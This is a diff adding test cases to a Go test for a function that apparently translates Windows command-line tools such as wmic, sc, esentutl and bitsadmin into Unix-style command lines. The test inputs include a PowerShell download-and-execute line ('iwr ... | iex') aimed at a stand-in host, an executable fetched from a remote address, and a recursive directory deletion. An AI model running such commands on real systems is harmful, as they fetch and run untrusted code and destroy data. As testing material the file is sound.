@@ -38,6 +38,12 @@ func TestWindowsToolLine(t *testing.T) {
 		{[]string{"esentutl", "/y", `\\198.51.100.7\s\p.exe`, "/d", `C:\w\p.exe`, "/o"}, "curl -o /mnt/c/w/p.exe http://198.51.100.7/s/p.exe"},
 		{[]string{"expand", "a.cab", "b"}, ""},
 		{[]string{"bitsadmin", "/SetNotifyCmdLine", "j", `C:\w\p.exe`, "NUL"}, "/mnt/c/w/p.exe NUL"},
+		// a process line is no cmd.exe line: its | and & are the program's
+		// words (PowerShell joins them and runs the pipeline), unless the
+		// program is cmd.exe, which splits them itself
+		{[]string{"wmic", "process", "call", "create", "powershell -c iwr http://h.example/x | iex"}, "powershell -c iwr http://h.example/x '|' iex"},
+		{[]string{"sc", "create", "w", "binPath=", "pwsh -c a & b"}, "pwsh -c a '&' b"},
+		{[]string{"wmic", "process", "call", "create", `C:\Windows\System32\cmd.exe /c whoami & rd /s /q C:\x`}, "/mnt/c/Windows/System32/cmd.exe /c whoami\nrm -r -f /mnt/c/x"},
 	} {
 		if got := windowsToolLine(progName(tc.words[0]), tc.words); got != tc.want {
 			t.Errorf("windowsToolLine(%q) = %q, want %q", tc.words, got, tc.want)
